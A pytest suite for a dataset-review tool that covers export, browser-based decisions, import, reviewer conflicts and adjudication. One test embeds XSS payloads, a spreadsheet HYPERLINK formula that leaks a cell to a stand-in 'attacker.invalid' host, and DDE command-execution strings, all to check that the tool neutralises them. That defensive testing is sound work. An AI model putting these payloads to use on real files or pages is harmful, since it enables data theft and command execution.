"""The data team's review: export a stratified subset (HTML page checked in headless Chromium, CSV/JSONL to
mark), import the decisions (rejected rows excluded with reason `review`, who/when in the manifest)."""

import csv
import io
import json
import re
import shutil
import subprocess
import sys

import pyarrow.parquet as pq
import pytest

from data_curation.review import export_review, import_review
from data_curation.run import curate
from flows.curate_cli import quick_config
from pilot_core.errors import UserError

from .helpers import CHROMIUM, REPO, browser, cells
from .helpers import GENERALIGN_CHATS as CHATS
from .helpers import GENERALIGN_EVAL as EVAL
from .helpers import GENERALIGN_PROMPTS as PROMPTS


@pytest.fixture(scope="module")
def dataset(tmp_path_factory):
    out = tmp_path_factory.mktemp("rev") / "v1"
    curate(quick_config((str(PROMPTS), str(CHATS)), (str(EVAL),), None, None), output=str(out), progress=False)
    return out


@pytest.fixture
def copy(dataset, tmp_path):
    dst = tmp_path / "v1"
    shutil.copytree(dataset, dst)
    return dst


def test_export_is_stratified(dataset, tmp_path):
    r = export_review(dataset, tmp_path / "review", per_stratum=2, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "review" / "review.csv")))
    assert len(rows) == r["rows"] == len([json.loads(x) for x in open(tmp_path / "review" / "review.jsonl")])
    kept = pq.read_table(dataset / "prompts.parquet").to_pylist()
    strata = {(x["source"], x["category"]) for x in kept}
    got = [(x["source"], x["category"]) for x in rows if x["set"] == "kept"]
    assert set(got) == strata and all(got.count(s) <= 2 for s in strata)
    reasons = {(x["stage"], x["reason"]) for x in pq.read_table(dataset / "excluded.parquet").to_pylist()}
    assert sorted((x["stage"], x["reason"]) for x in rows if x["set"] == "excluded") == sorted(reasons)
    assert all(x["decision"] == "" for x in rows)
    again = export_review(dataset, tmp_path / "again", per_stratum=2, rejects_per_reason=1)
    assert (tmp_path / "again" / "review.csv").read_bytes() == (tmp_path / "review" / "review.csv").read_bytes()
    assert again["rows"] == r["rows"]


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it)")
def test_review_page_filters_and_sorts_in_headless_chromium(dataset, tmp_path):
    from playwright.sync_api import sync_playwright

    export_review(dataset, tmp_path / "review", per_stratum=3, rejects_per_reason=2)
    rows = list(csv.DictReader(open(tmp_path / "review" / "review.csv")))
    excluded = [x for x in rows if x["set"] == "excluded"]
    scores = sorted(float(x["score"]) for x in excluded if x["score"])
    with sync_playwright() as p:
        b = browser(p)
        try:
            page = b.new_page()
            requests = []
            page.on("request", lambda r: requests.append(r.url))
            page.goto((tmp_path / "review" / "review.html").as_uri())
            assert page.locator("#rows tbody.item").count() == len(rows)
            assert page.locator("#progress").inner_text() == f"decided 0 / {len(rows)} sampled"
            page.select_option("#filter-set", "excluded")
            assert sorted(cells(page, "id")) == sorted(x["id"] for x in excluded)
            header = page.locator('#head th[data-key="score"]')
            header.click()
            assert float(cells(page, "score")[0]) == scores[0]
            header.click()
            assert float(cells(page, "score")[0]) == scores[-1]
            page.select_option("#filter-set", "*")
            page.locator('#head th[data-key="id"]').click()
            ids = cells(page, "id")
            assert ids == sorted(ids, key=str.lower)
            reason = excluded[0]["reason"]  # a reason filter and a text search narrow the rows to exactly these
            page.select_option("#filter-reason", reason)
            assert sorted(cells(page, "id")) == sorted(x["id"] for x in rows if x["reason"] == reason)
            page.select_option("#filter-reason", "*")
            word = rows[0]["text"].split()[0]
            page.fill("#search", word)
            assert sorted(cells(page, "id")) == sorted(x["id"] for x in rows if any(
                word.lower() in str(v).lower() for k, v in x.items() if k not in ("decision", "note")))
            assert all(u.startswith("file://") for u in requests)  # self-contained: nothing fetched
        finally:
            b.close()


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it)")
def test_a_review_decided_in_the_page_imports(copy, tmp_path):
    """Click and keyboard decisions, a whole stratum at once, a note, a reload that keeps them; the saved file
    imports and moves exactly the rejected kept rows."""
    from playwright.sync_api import sync_playwright

    export_review(copy, tmp_path / "review", per_stratum=3, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "review" / "review.csv")))
    with sync_playwright() as p:
        b = browser(p)
        try:
            page = b.new_page()
            page.goto((tmp_path / "review" / "review.html").as_uri())
            page.select_option("#filter-set", "kept")
            shown = cells(page, "id")
            first = page.locator("#rows tbody.item").first
            first.locator('button[data-decision="reject"]').click()
            first.locator("input.note").fill("off-topic")
            page.keyboard.press("Escape")
            page.keyboard.press("j")  # the cursor is on the first row: move to the second, approve it, reject the next
            page.keyboard.press("a")
            page.keyboard.press("r")
            page.select_option("#filter-set", "*")
            page.select_option("#filter-stratum", index=1)  # one whole stratum (of rejects), rejected at once
            whole = cells(page, "id")
            page.click("#all-reject")
            page.click("#confirm-yes")
            page.select_option("#filter-stratum", "*")
            page.reload()  # decisions are kept in the browser as they are made
            page.select_option("#filter-decision", "reject")
            rejected = set(cells(page, "id"))
            assert rejected == {shown[0], shown[2], *whole}
            assert page.locator("#progress").inner_text() == f"decided {len(rejected) + 1} / {len(rows)} sampled"
            with page.expect_download() as dl:
                page.click("#save")
            saved = tmp_path / "saved.csv"
            dl.value.save_as(saved)
        finally:
            b.close()
    got = {r["id"]: r for r in csv.DictReader(open(saved, newline=""))}
    assert list(got) == [x["id"] for x in rows] and got[shown[0]]["note"] == "off-topic"
    assert got[shown[1]]["decision"] == "approve"
    kept_before = {r["id"] for r in pq.read_table(copy / "prompts.parquet").to_pylist()}
    entry = import_review(copy, saved, "dana")
    kept = {r["id"] for r in pq.read_table(copy / "prompts.parquet").to_pylist()}
    assert kept_before - kept == rejected & kept_before and entry["approved"] == 1
    assert entry["rejected"] == len(rejected & kept_before)


def test_import_excludes_rejects_and_records_the_reviewer(copy, tmp_path):
    export_review(copy, tmp_path / "review", per_stratum=2, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "review" / "review.csv")))
    kept_rows = [x for x in rows if x["set"] == "kept"]
    for x in kept_rows[:3]:
        x["decision"], x["note"] = "reject", "off-topic"
    for x in kept_rows[3:5]:
        x["decision"] = "approve"
    marked = tmp_path / "marked.csv"
    with open(marked, "w", newline="") as f:
        w = csv.DictWriter(f, fieldnames=rows[0].keys())
        w.writeheader()
        w.writerows(rows)
    before = pq.read_table(copy / "prompts.parquet").num_rows
    entry = import_review(copy, marked, "dana")
    assert entry["rejected"] == 3 and entry["approved"] == 2
    kept = {r["id"] for r in pq.read_table(copy / "prompts.parquet").to_pylist()}
    excl = {r["id"]: r for r in pq.read_table(copy / "excluded.parquet").to_pylist()}
    assert len(kept) == before - 3
    for x in kept_rows[:3]:
        assert x["id"] not in kept and excl[x["id"]]["reason"] == "review"
        assert excl[x["id"]]["detail"] == "dana: off-topic"
    m = json.loads((copy / "manifest.json").read_text())
    assert m["data"]["reviews"][0]["reviewer"] == "dana" and m["data"]["kept"] == len(kept)
    assert m["data"]["excluded"]["review"] == {"review": 3}
    assert sum(v["kept"] for v in m["data"]["per_source"].values()) == len(kept)
    assert "dana reviewed" in (copy / "README.md").read_text()
    import_review(copy, marked, "dana")  # importing the same file again changes nothing more
    assert pq.read_table(copy / "prompts.parquet").num_rows == len(kept)


def test_bad_decisions_are_clear_errors(copy, tmp_path):
    from data_curation.review_file import export_tag
    from pilot_core.manifest import fingerprint

    tag = export_tag("prompts", fingerprint(copy / "prompts.parquet"))
    bad = tmp_path / "bad.csv"
    bad.write_text("id,decision\nprompts:ok-howto-0,maybe\n")
    with pytest.raises(UserError, match=r"bad.csv:2: decision 'maybe'"):
        import_review(copy, bad, "dana")
    bad.write_text(f"id,decision,export\nprompts:nope,reject,{tag}\n")
    with pytest.raises(UserError, match="bad.csv:2: id 'prompts:nope' is not in"):
        import_review(copy, bad, "dana")
    bad.write_text("ident,verdict\nx,y\n")
    with pytest.raises(UserError, match="header must have id and decision"):
        import_review(copy, bad, "dana")


def test_review_cli(copy, tmp_path):
    cli = [sys.executable, "-m", "flows.cli", "review"]
    r = subprocess.run([*cli, "export", str(copy), "--out", str(tmp_path / "r")], cwd=REPO, capture_output=True,
                       text=True)
    assert r.returncode == 0 and "rows to review" in r.stdout, r.stderr
    lines = [json.loads(x) for x in open(tmp_path / "r" / "review.jsonl")]
    lines[0]["decision"] = "reject"
    (tmp_path / "d.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines))
    r = subprocess.run([*cli, "import", str(copy), "--decisions", str(tmp_path / "d.jsonl"), "--reviewer", "kim"],
                       cwd=REPO, capture_output=True, text=True)
    assert r.returncode == 0 and "1 rejected" in r.stdout, r.stderr
    r = subprocess.run([*cli, "import", str(tmp_path / "nope"), "--decisions", str(tmp_path / "d.jsonl")],
                       cwd=REPO, capture_output=True, text=True)
    assert r.returncode == 2 and "not a complete artifact" in r.stderr


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it)")
def test_review_page_shows_markup_in_prompts_as_text(tmp_path):
    """A prompt is data: `<script>` and event handlers in it are shown, never run (issue #11); and cells that a
    spreadsheet would evaluate (=, +, -, @ first) reach the CSV files, exported or saved from the page, as text
    (a leading apostrophe) and read back unchanged (issue #38)."""
    from playwright.sync_api import sync_playwright

    from data_curation.review_file import read_decisions

    src = tmp_path / "hostile.jsonl"
    attacks = ["Please explain what this page snippet does: <script>window.pwned = 1</script> and why it is risky.",
               'Why would anyone write <img src=x onerror="window.pwned = 2"> inside a product review form?']
    formulas = ['=HYPERLINK("http://attacker.invalid/?q="&A1, "Why is this spreadsheet link dangerous to open?")',
                "+cmd|' /C calc'!A0 is something I saw in a shared file. What does it do on a work computer?",
                "-2+3 is how my calculator shows it, but can you explain negative numbers to a ten year old?",
                "@SUM(1+1)*cmd|' /C calc'!A0 appeared in a report I was sent. Should I be worried about it?"]
    src.write_text("".join(json.dumps({"id": f"h{i}", "prompt": a}) + "\n" for i, a in enumerate(attacks + formulas)))
    curate(quick_config((str(src),), (), None, None), output=str(tmp_path / "v1"), progress=False)
    export_review(tmp_path / "v1", tmp_path / "review", per_stratum=100)
    with sync_playwright() as p:
        b = browser(p)
        try:
            page = b.new_page()
            page.goto((tmp_path / "review" / "review.html").as_uri())
            page.wait_for_timeout(300)
            texts = page.locator("#rows tbody.item").all_inner_texts()
            assert page.evaluate("window.pwned") is None
            assert any("<script>window.pwned = 1</script>" in t for t in texts), texts
            assert any('<img src=x onerror="window.pwned = 2">' in t for t in texts), texts
            assert page.locator("#rows img").count() == 0 and page.locator("#rows script").count() == 0
            assert all(any(f in t for t in texts) for f in formulas), texts  # shown as written
            first = page.locator("#rows tbody.item").first
            first.locator('button[data-decision="approve"]').click()
            first.locator("input.note").fill("=1+1 looks fine")
            page.keyboard.press("Escape")
            with page.expect_download() as dl:
                page.click("#save")
            dl.value.save_as(tmp_path / "saved.csv")
        finally:
            b.close()
    for f in (tmp_path / "review" / "review.csv", tmp_path / "saved.csv"):
        cells = [c for row in csv.reader(open(f, newline="")) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], f  # nothing a spreadsheet evaluates
        assert sum(c.startswith(("'=", "'+", "'-", "'@")) for c in cells) >= len(formulas), f
    exported = {r["id"]: r for r in json.loads("[" + ",".join(open(tmp_path / "review" / "review.jsonl")) + "]")}
    saved = read_decisions(tmp_path / "saved.csv", ("approve", "reject"))
    assert [r["id"] for r in saved] == list(exported)  # ids read back as exported
    assert [r["note"] for r in saved if r["note"]] == ["=1+1 looks fine"]  # and the note as typed


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it)")
def test_a_large_review_is_paged(tmp_path):
    """5,000 sampled rows: one page of them in the document at a time; filters, the keyboard and the progress
    work over all of them (bench/review_page.py times it)."""
    from playwright.sync_api import sync_playwright

    from data_curation.review import _page
    from data_curation.review_page import PAGE_ROWS

    rows = [{"id": f"s:{i}", "set": "kept", "source": f"src-{i % 10}", "category": "advice", "stage": "",
             "reason": "", "score": "", "harm_tags": "violence" if i % 7 == 0 else "", "pii": "",
             "text": f"prompt number {i}", "decision": "", "note": "", "stratum": f"kept: src-{i % 10} / advice"}
            for i in range(5000)]
    (tmp_path / "big.html").write_text(_page("big", rows, "fp"), encoding="utf-8")
    with sync_playwright() as p:
        b = browser(p)
        try:
            page = b.new_page()
            page.goto((tmp_path / "big.html").as_uri())
            assert page.locator("#rows tbody.item").count() == PAGE_ROWS
            assert page.locator("#page-info").inner_text() == f"page 1 of {5000 // PAGE_ROWS} (5000 matching)"
            page.select_option("#filter-harm_tags", "violence")
            n = sum(1 for r in rows if r["harm_tags"])
            assert page.locator("#page-info").inner_text().endswith(f"({n} matching)")
            page.click("#all-reject")
            page.click("#confirm-yes")
            page.select_option("#filter-harm_tags", "*")
            for _ in range(PAGE_ROWS):  # the keyboard walks off the first page onto the second
                page.keyboard.press("j")
            page.keyboard.press("a")
            assert page.locator("#page-info").inner_text().startswith("page 2 of")
            assert page.locator("#page-info-top").inner_text() == page.locator("#page-info").inner_text()
            assert page.locator("#progress").inner_text() == f"decided {n + 1} / 5000 sampled"
            assert cells(page, "id")[0] == f"s:{PAGE_ROWS}"
            page.click("#prev-top")  # the pager above the rows too
            assert page.locator("#page-info").inner_text().startswith("page 1 of")
            assert cells(page, "id")[0] == "s:0"
        finally:
            b.close()


def _write(rows: list[dict], path, sep=",", bom=False, crlf=False) -> None:
    buf = io.StringIO()
    w = csv.DictWriter(buf, fieldnames=rows[0].keys(), delimiter=sep, lineterminator="\r\n" if crlf else "\n")
    w.writeheader()
    w.writerows(rows)
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + buf.getvalue().encode())


def test_an_import_checks_the_kind_and_version_it_was_exported_from(copy, tmp_path):
    """A file of a pair review, one exported before the directory changed, one without the export column, a header
    without rows: each is one error naming the file (and line), and the directory is untouched."""
    from pilot_core.manifest import fingerprint

    export_review(copy, tmp_path / "r", per_stratum=2, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "r" / "review.csv", newline="")))
    assert len({r["export"] for r in rows}) == 1 and rows[0]["export"].startswith("prompts@")
    kept = [r for r in rows if r["set"] == "kept"]
    before = fingerprint(copy)
    cases = {"pairs": ([{**kept[0], "decision": "reject", "export": "pairs@0123456789abcdef"}],
                       r"f.csv:2: exported from a pairs review, not a prompts review .* `pilot review import-pairs`"),
             "none": ([{k: v for k, v in kept[0].items() if k != "export"} | {"decision": "reject"}],
                      r"f.csv:2: no export column value"),
             "edited": ([{**kept[0], "decision": "reject", "text": kept[0]["text"] + " (edited)"}],
                        rf"f.csv:2: the text of id '{kept[0]['id']}' was edited in the file")}
    for name, (file_rows, error) in cases.items():
        _write(file_rows, tmp_path / "f.csv")
        with pytest.raises(UserError, match=error):
            import_review(copy, tmp_path / "f.csv", "dana")
    (tmp_path / "f.csv").write_text(",".join(rows[0]) + "\n")
    with pytest.raises(UserError, match="no rows"):
        import_review(copy, tmp_path / "f.csv", "dana")
    assert fingerprint(copy) == before  # nothing written
    _write([{**kept[0], "decision": "reject"}], tmp_path / "first.csv")
    _write([{**kept[1], "decision": "reject"}], tmp_path / "second.csv")  # the same export, decided apart
    import_review(copy, tmp_path / "first.csv", "dana")
    assert import_review(copy, tmp_path / "second.csv", "kim")["rejected"] == 1  # decisions accumulate
    # the directory changed by anything but a review import: every earlier export is stale
    table = pq.read_table(copy / "prompts.parquet")
    pq.write_table(table.slice(0, table.num_rows - 1), copy / "prompts.parquet")
    _write([{**kept[2], "decision": "reject"}], tmp_path / "third.csv")
    before = fingerprint(copy)
    with pytest.raises(UserError, match=r"third.csv:2: exported from another version of .*; export again"):
        import_review(copy, tmp_path / "third.csv", "lee")
    assert fingerprint(copy) == before


def test_spreadsheet_files_as_excel_saves_them(copy, tmp_path):
    """UTF-8 with a byte-order mark, `;` or tab between cells, Windows line ends: read as the plain CSV."""
    export_review(copy, tmp_path / "r", per_stratum=2, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "r" / "review.csv", newline="")))
    kept = [r for r in rows if r["set"] == "kept"]
    marked = [{**r, "decision": "reject" if r is kept[0] else "approve" if r is kept[1] else ""} for r in rows]
    from data_curation.review_file import read_decisions

    plain = tmp_path / "plain.csv"
    _write(marked, plain)
    want = read_decisions(plain, ("approve", "reject"), texts=("text",))
    for sep, bom, crlf in ((";", True, True), ("\t", True, False), (",", True, True)):
        f = tmp_path / "excel.csv"
        _write(marked, f, sep, bom, crlf)
        assert read_decisions(f, ("approve", "reject"), texts=("text",)) == want, (sep, bom, crlf)
    entry = import_review(copy, f, "dana")
    assert (entry["rejected"], entry["approved"]) == (1, 1)


def test_an_approved_exclusion_comes_back_with_its_reviewer_and_note(copy, tmp_path):
    export_review(copy, tmp_path / "r", per_stratum=2, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "r" / "review.csv", newline="")))
    excl = [r for r in rows if r["set"] == "excluded"]
    back, confirmed = excl[0], excl[1]
    kept_before = pq.read_table(copy / "prompts.parquet").num_rows
    _write([{**back, "decision": "approve", "note": "not a duplicate"}, {**confirmed, "decision": "reject"}],
           tmp_path / "d.csv")
    entry = import_review(copy, tmp_path / "d.csv", "dana")
    assert entry["approved"] == 0 and entry["exclusions_confirmed"] == 1
    assert entry["restored"] == [{"id": back["id"], "stage": back["stage"], "reason": back["reason"],
                                  "note": "not a duplicate"}]
    kept = {r["id"]: r for r in pq.read_table(copy / "prompts.parquet").to_pylist()}
    assert back["id"] in kept and len(kept) == kept_before + 1 and kept[back["id"]]["text"] == back["text"]
    assert back["id"] not in {r["id"] for r in pq.read_table(copy / "excluded.parquet").to_pylist()}
    m = json.loads((copy / "manifest.json").read_text())
    assert m["data"]["kept"] == len(kept) == sum(v["kept"] for v in m["data"]["per_source"].values())
    assert f"restored `{back['id']}`" in (copy / "README.md").read_text()


def _cli(*args):
    r = subprocess.run([sys.executable, "-m", "flows.cli", "review", *map(str, args)], cwd=REPO, capture_output=True,
                       text=True)
    return r.returncode, r.stdout, r.stderr


def _where(directory) -> dict[str, str]:
    """Each row's table: kept (prompts.parquet) or the excluded row's stage."""
    out = {r["id"]: "kept" for r in pq.read_table(directory / "prompts.parquet", columns=["id"]).to_pylist()}
    return out | {r["id"]: r["stage"] for r in pq.read_table(directory / "excluded.parquet",
                                                              columns=["id", "stage"]).to_pylist()}


def _shares(copy, tmp_path, overlap=8):
    """Export shares for alice and bob; decide the overlap: both approve p1, alice approves p2, bob approves p3
    (p1-p3: rows that can be approved, excluded ones first), both reject the rest; alice rejects one kept row of
    her own share and bob approves one of his."""
    code, out, err = _cli("export", copy, "--out", tmp_path / "r", "--per-stratum", 2, "--rejects-per-reason", 1,
                          "--reviewers", "alice,bob", "--overlap", overlap)
    assert code == 0 and "in shares for alice" in out and f"{overlap} rows in every share" in out, err
    shares = {n: list(csv.DictReader(open(tmp_path / "r" / n / "review.csv", newline=""))) for n in ("alice", "bob")}
    common = set(json.loads((tmp_path / "r" / "review.json").read_text())["overlap"])
    assert len(common) == overlap and all(common <= {r["id"] for r in s} for s in shares.values())
    assert {r["reviewer"] for r in shares["alice"]} == {"alice"}
    rows = {r["id"]: r for r in shares["alice"]}
    able = sorted((i for i in common if rows[i]["stage"] != "load"), key=lambda i: (rows[i]["set"] == "kept", i))
    p1, p2, p3 = able[:3]
    for name, mine in (("alice", (p1, p2)), ("bob", (p1, p3))):
        for r in shares[name]:
            r["decision"] = ("approve" if r["id"] in mine else "reject") if r["id"] in common else ""
        own = next(r for r in shares[name] if r["id"] not in common and r["set"] == "kept")
        own["decision"], own["note"] = ("reject", "off-topic") if name == "alice" else ("approve", "")
        _write(shares[name], tmp_path / f"{name}.csv")
    return p1, p2, p3, common, {n: next(r["id"] for r in s if r["id"] not in common and r["decision"])
                                 for n, s in shares.items()}


def test_two_reviewers_with_an_overlap_conflicts_and_an_adjudicator(copy, tmp_path):
    """Shares with an overlap, both imported (kappa on the overlap in the manifest and the card), the conflicts
    listed and left as they were, one settled by an adjudicator; the dataset holds exactly the settled decisions."""
    from datasets import load_from_disk

    from pilot_core.manifest import fingerprint

    before = _where(copy)
    p1, p2, p3, common, own = _shares(copy, tmp_path)
    for name in ("alice", "bob"):
        code, out, err = _cli("import", copy, "--decisions", tmp_path / f"{name}.csv")
        assert code == 0 and out.startswith(f"{copy}: {name}: "), err
    assert "2 in conflict with another reviewer" in out
    # idempotent: the same file again changes nothing
    fp = fingerprint(copy)
    code, out, _ = _cli("import", copy, "--decisions", tmp_path / "alice.csv")
    assert code == 0 and "imported before: nothing changed" in out and fingerprint(copy) == fp
    code, out, _ = _cli("conflicts", copy)
    lines = out.splitlines()
    assert code == 0 and sorted(lines[:-1]) == sorted([f"{p2}\talice: approve, bob: reject",
                                                       f"{p3}\talice: reject, bob: approve"])
    assert lines[-1] == f"{copy}: 2 prompts conflict(s) (settle each with `pilot review adjudicate`)"
    now = _where(copy)
    assert now[p2] == before[p2] and now[p3] == before[p3]  # conflicts: not applied
    assert now[p1] == "kept" and now[own["alice"]] == "review" and now[own["bob"]] == "kept"
    assert all(now[i] == ("review" if before[i] == "kept" else before[i]) for i in common - {p1, p2, p3})
    # kappa on the 8 overlap rows, by hand: both approve 1, one each 1 + 1, both reject 5: p_o = 6/8,
    # p_e = (2/8)(2/8) + (6/8)(6/8) = 40/64, kappa = (48/64 - 40/64) / (24/64) = 1/3
    m = json.loads((copy / "manifest.json").read_text())["data"]
    assert m["review_state"]["agreement"] == [{"reviewers": ["alice", "bob"], "rows": 8, "agreed": 6,
                                               "kappa": pytest.approx(1 / 3, abs=1e-4)}]
    card = (copy / "README.md").read_text()
    assert "| alice / bob | 8 | 6 | 0.33 |" in card and f"- `{p2}`: alice approve, bob reject" in card

    code, out, err = _cli("adjudicate", copy, "--id", p2, "--decision", "approve", "--adjudicator", "carol",
                          "--note", "fine as it is")
    assert code == 0 and f"{p2}: carol decided approve" in out, err
    now = _where(copy)
    assert now[p2] == "kept" and now[p3] == before[p3]
    code, out, _ = _cli("conflicts", copy)
    assert out.splitlines()[0] == f"{p3}\talice: reject, bob: approve"
    card = (copy / "README.md").read_text()
    assert f"- `{p2}`: carol decided approve (alice approve, bob reject): fine as it is" in card
    assert card.count("<!-- prompts-reviewers -->") == 1
    m = json.loads((copy / "manifest.json").read_text())["data"]
    assert m["kept"] == sum(v["kept"] for v in m["per_source"].values()) == sum(v == "kept" for v in now.values())
    history = pq.read_table(copy / "review_history.parquet").to_pylist()
    decided = {n: sum(bool(r["decision"]) for r in csv.DictReader(open(tmp_path / f"{n}.csv")))
               for n in ("alice", "bob")}
    assert [sum(h["reviewer"] == n for h in history) for n in ("alice", "bob", "carol")] == [*decided.values(), 1]
    assert {h["role"] for h in history if h["reviewer"] == "carol"} == {"adjudicator"}
    assert {r["id"] for r in load_from_disk(str(copy / "dataset"))["prompts"]} == {i for i, t in now.items()
                                                                                   if t == "kept"}


def test_imports_accumulate_in_any_order(dataset, tmp_path):
    """alice then bob, or bob then alice: the same rows kept, the same exclusions."""
    placed = []
    for order in (("alice", "bob"), ("bob", "alice")):
        d = tmp_path / "-".join(order) / "v1"
        shutil.copytree(dataset, d)
        _shares(d, d.parent)
        for name in order:
            import_review(d, d.parent / f"{name}.csv")
        placed.append(_where(d))
    assert placed[0] == placed[1]


def test_wrong_or_stale_files_are_refused_and_nothing_is_written(copy, tmp_path):
    """After shares were imported: a file of a pair review, of another version, of someone else's share: exit 2,
    one line naming the file and line, the directory unchanged."""
    from pilot_core.manifest import fingerprint

    _shares(copy, tmp_path)
    assert _cli("import", copy, "--decisions", tmp_path / "alice.csv")[0] == 0
    rows = list(csv.DictReader(open(tmp_path / "bob.csv", newline="")))
    cases = {"pairs@0123456789abcdef": r"bob-x.csv:2: exported from a pairs review, not a prompts review",
             "prompts@0123456789abcdef": r"bob-x.csv:2: exported from another version of .*; export again"}
    before = fingerprint(copy)
    for tag, error in cases.items():
        _write([{**r, "export": tag} for r in rows], tmp_path / "bob-x.csv")
        code, out, err = _cli("import", copy, "--decisions", tmp_path / "bob-x.csv")
        assert code == 2 and len(err.strip().splitlines()) == 1, (out, err)
        assert re.search(error, err), err
    code, _, err = _cli("import", copy, "--decisions", tmp_path / "bob.csv", "--reviewer", "alice")
    assert code == 2 and "bob.csv:2: this row is bob's share, not alice's" in err
    code, _, err = _cli("adjudicate", copy, "--id", "nope", "--decision", "approve", "--adjudicator", "carol")
    assert code == 2 and "--id 'nope': no reviewer has decided this row" in err
    assert fingerprint(copy) == before


@pytest.mark.skipif(CHROMIUM is None, reason="Debian's chromium is not installed (make test installs it)")
def test_the_page_gives_the_keys_back_confirms_bulk_actions_undoes_them_and_says_why(dataset, tmp_path):
    """After picking a filter the next key decides a row (not the filter); "reject all matching" asks first (saying
    when no filter narrows it to the whole sample), can be cancelled and undone; each row says why it was kept or
    excluded."""
    from playwright.sync_api import sync_playwright

    export_review(dataset, tmp_path / "review", per_stratum=3, rejects_per_reason=1)
    rows = list(csv.DictReader(open(tmp_path / "review" / "review.csv", newline="")))
    assert all(r["why"].startswith("passed every filter") for r in rows if r["set"] == "kept")
    assert all(r["why"].startswith(f"{r['stage']}: {r['reason']}") for r in rows if r["set"] == "excluded")
    with sync_playwright() as p:
        b = browser(p)
        try:
            page = b.new_page()
            page.goto((tmp_path / "review" / "review.html").as_uri())
            assert cells(page, "why") == [r["why"] for r in rows]
            page.focus("#filter-set")
            page.select_option("#filter-set", "kept")
            page.keyboard.press("a")  # decides the first kept row; the filter keeps its value
            assert page.locator("#filter-set").input_value() == "kept"
            kept = [r["id"] for r in rows if r["set"] == "kept"]
            page.select_option("#filter-decision", "approve")
            assert cells(page, "id") == [kept[0]]
            page.select_option("#filter-decision", "*")
            page.click("#all-reject")
            assert page.locator("#confirm-text").inner_text() == f"reject all {len(kept)} matching rows?"
            page.click("#confirm-no")
            assert page.locator("#progress").inner_text() == f"decided 1 / {len(rows)} sampled"
            page.click("#all-reject")
            page.keyboard.press("Enter")
            assert page.locator("#progress").inner_text() == f"decided {len(kept)} / {len(rows)} sampled"
            page.select_option("#filter-set", "*")
            page.click("#all-approve")
            assert page.locator("#confirm-text").inner_text() == (f"approve all {len(rows)} matching rows (no filter: "
                                                                  "every row of the sample)?")
            page.keyboard.press("Escape")
            assert page.locator("#confirm").is_hidden()
            assert page.locator("#undo").inner_text() == f"undo: reject {len(kept)} rows"
            page.click("#undo")  # back to one approved row
            page.select_option("#filter-decision", "approve")
            assert cells(page, "id") == [kept[0]]
            page.select_option("#filter-decision", "reject")
            assert cells(page, "id") == [] and page.locator("#undo").is_disabled()
        finally:
            b.close()


def test_two_reviewers_importing_at_once_lose_nothing(copy, tmp_path):
    """Both imports start together; the second waits for the first, so both reviewers' decisions are kept."""
    from concurrent.futures import ThreadPoolExecutor

    _shares(copy, tmp_path)
    with ThreadPoolExecutor(2) as pool:
        list(pool.map(lambda n: import_review(copy, tmp_path / f"{n}.csv"), ("alice", "bob")))
    history = pq.read_table(copy / "review_history.parquet").to_pylist()
    for name in ("alice", "bob"):
        decided = sum(bool(r["decision"]) for r in csv.DictReader(open(tmp_path / f"{name}.csv")))
        assert sum(h["reviewer"] == name for h in history) == decided
